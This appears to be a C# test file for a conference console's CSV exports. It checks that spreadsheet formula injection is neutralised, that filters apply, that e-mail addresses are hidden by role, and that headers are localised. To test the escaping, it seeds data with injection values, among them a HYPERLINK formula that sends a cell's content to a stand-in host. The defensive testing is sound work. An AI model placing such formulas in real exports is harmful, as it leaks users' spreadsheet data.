using System.Globalization;
using Agenda.Domain.Access;
using CsvHelper;

namespace Agenda.Api.Tests.Web.Organise;

/// <summary>The tables of the console as files for spreadsheets, read back.</summary>
public sealed class CsvPagesTests(AgendaHost host) : IClassFixture<AgendaHost>
{
    private const string Formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"Click, please\")";

    [Fact]
    public async Task No_table_has_a_cell_that_a_spreadsheet_takes_for_a_formula()
    {
        var given = await Given.Conference(host, "csv-hostile");
        var room = await given.Room("@SUM(A1)", 60, "+1");
        await given.Type("MC", "-2+3");
        var track = await given.Track("＝1", "#3a7bd5");
        var person = await given.Person("@Ada", Formula, "-Cork", "ada@example.org");
        var session = await given.Session("MC-1", Formula, more: new { @abstract = "\tTab, then = more", chairs = new[] { person.Id }, track = track["slug"].GetString() });
        await given.Session("MC-2", "Plain, with \"quotes\"; and more");
        await given.Placed(session, room["slug"].GetString(), "2024-01-08T14:00:00", 150);
        using var browser = await ConsoleReader.SignedInAsync(host, "csv-hostile", ConferenceRole.Owner);

        foreach (var table in (string[])["sessions", "people", "rooms", "types", "tracks", "conflicts", "audit"])
        {
            var answer = await browser.GetAsync($"/organise/csv-hostile/{table}.csv");
            answer.ContentHeaders.ContentType!.ToString().ShouldBe("text/csv; charset=utf-8");
            answer.ContentHeaders.ContentDisposition!.ToString().ShouldStartWith($"attachment; filename={table}-csv-hostile.csv");
            answer.Text.ShouldEndWith("\r\n");
            var lines = Parse(answer.Text);
            lines.Count.ShouldBeGreaterThan(0, table);
            lines.SelectMany(line => line.Values).Where(cell => cell.Length > 0 && "=+-@\t\r\n＝".Contains(cell[0], StringComparison.Ordinal)).ShouldBeEmpty(table);
        }

        var sessions = Parse((await browser.GetAsync("/organise/csv-hostile/sessions.csv")).Text);
        sessions.Select(line => line["Title"]).ShouldBe([$"'{Formula}", "Plain, with \"quotes\"; and more"]);
        sessions[0].ShouldBe(new Dictionary<string, string>
        {
            ["Code"] = "MC-1",
            ["Title"] = $"'{Formula}",
            ["Type"] = "'-2+3",
            ["Track"] = "'＝1",
            ["Status"] = "Confirmed",
            ["Day"] = "2024-01-08",
            ["Start"] = "14:00",
            ["End"] = "16:30",
            ["Minutes"] = "150",
            ["Room"] = "'@SUM(A1) (60)",
            ["Chairs"] = $"'@Ada {Formula}",
            ["Discussants"] = "",
            ["Contributions"] = "0",
            ["Wanted seats"] = "",
            ["Lacks"] = "",
        });
    }

    [Fact]
    public async Task A_table_has_what_the_filters_of_its_page_leave()
    {
        var given = await Given.Conference(host, "csv-filters");
        await given.Type("MC", "Masterclass");
        var ada = await given.Person("Ada", "Byrne");
        await given.Person("Bo", "Reed");
        await given.Session("MC-1", "One", more: new { chairs = new[] { ada.Id } });
        await given.Session("MC-2", "Two", status: "draft");
        using var browser = await ConsoleReader.SignedInAsync(host, "csv-filters", ConferenceRole.Editor);

        (await CodesAsync("")).ShouldBe(["MC-1", "MC-2"]);
        (await CodesAsync("?q=ada")).ShouldBe(["MC-1"]);
        (await CodesAsync("?status=draft")).ShouldBe(["MC-2"]);
        (await CodesAsync("?type=XX")).ShouldBe([]);
        Parse((await browser.GetAsync("/organise/csv-filters/people.csv?q=ree")).Text).Select(line => line["Family name"]).ShouldBe(["Reed"]);
        (await browser.GetAsync("/organise/csv-filters/sessions?status=draft")).Html.QuerySelector("[data-csv]")!.GetAttribute("href").ShouldBe("/organise/csv-filters/sessions.csv?status=draft");
        (await browser.GetAsync("/organise/csv-filters/people?q=a+b%26c")).Html.QuerySelector("[data-csv]")!.GetAttribute("href").ShouldBe("/organise/csv-filters/people.csv?q=a%20b%26c");

        async Task<IEnumerable<string>> CodesAsync(string query) => Parse((await browser.GetAsync($"/organise/csv-filters/sessions.csv{query}")).Text).Select(line => line["Code"]);
    }

    [Fact]
    public async Task Addresses_are_for_those_who_see_them_and_chairs_get_their_own_sessions_alone()
    {
        var given = await Given.Conference(host, "csv-private");
        await given.Type("MC", "Masterclass");
        var ada = await given.Person("Ada", "Byrne", email: "secret.of.ada@example.org");
        var bo = await given.Person("Bo", "Reed");
        await given.Session("MC-1", "One", more: new { chairs = new[] { ada.Id } });
        await given.Session("MC-2", "Two", more: new { chairs = new[] { bo.Id } });

        using var editor = await ConsoleReader.SignedInAsync(host, "csv-private", ConferenceRole.Editor);
        Parse((await editor.GetAsync("/organise/csv-private/people.csv")).Text).Select(line => line["E-mail"]).ShouldBe(["secret.of.ada@example.org", ""]);
        using var reader = await ConsoleReader.SignedInAsync(host, "csv-private", ConferenceRole.Reader);
        var seen = (await reader.GetAsync("/organise/csv-private/people.csv")).Text;
        Parse(seen).Select(line => line["Family name"]).ShouldBe(["Byrne", "Reed"]);
        seen.ShouldNotContain("E-mail");
        seen.ShouldNotContain("secret.of.ada@example.org");
        using var chair = await ConsoleReader.SignedInAsync(host, "csv-private", ConferenceRole.Chair, ada.Id);
        Parse((await chair.GetAsync("/organise/csv-private/sessions.csv")).Text).Select(line => line["Code"]).ShouldBe(["MC-1"]);
        Parse((await chair.GetAsync("/organise/csv-private/people.csv")).Text).Select(line => line["Family name"]).ShouldBe(["Byrne"]);
        (await chair.GetAsync("/organise/csv-private/conflicts.csv")).Text.ShouldNotContain("MC-2");
    }

    [Fact]
    public async Task Heads_are_in_the_readers_language()
    {
        var given = await Given.Conference(host, "csv-german");
        await given.Type("MC", "Masterclass");
        using var browser = await ConsoleReader.SignedInAsync(host, "csv-german", ConferenceRole.Reader, language: "de");

        (await browser.GetAsync("/organise/csv-german/types.csv")).Text.TrimStart('\uFEFF').ShouldStartWith("Kürzel,Name,");
    }

    private static List<Dictionary<string, string>> Parse(string text)
    {
        using var reader = new CsvReader(new StringReader(text.TrimStart('\uFEFF')), CultureInfo.InvariantCulture);
        reader.Read().ShouldBeTrue();
        reader.ReadHeader();
        List<Dictionary<string, string>> lines = [];
        while (reader.Read())
            lines.Add(reader.HeaderRecord!.ToDictionary(head => head, head => reader.GetField(head)!));
        return lines;
    }
}
